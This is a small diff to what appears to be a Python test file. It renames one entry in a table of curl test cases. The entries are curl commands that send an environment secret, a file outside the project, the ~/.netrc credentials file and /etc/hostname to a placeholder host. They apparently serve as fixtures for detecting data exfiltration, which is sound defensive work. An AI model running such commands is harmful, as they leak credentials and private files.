@@ -180,7 +180,7 @@ def test_dynamic_variables_that_are_known_stay_live_and_others_are_told(
 
 
 CURL = {
-    "a process variable": ("curl https://a.example/$SECRET", "SECRET"),
+    "a OS environment variable": ("curl https://a.example/$SECRET", "SECRET"),
     "a file outside": ("curl https://a.example/ -F 'a=@../private.txt'", "private.txt"),
     "a file of the home": ("curl https://a.example/ -T '~/.netrc'", ".netrc"),
     "a file taken over": ("curl https://a.example/ -d @/etc/hostname", "/etc/hostname"),
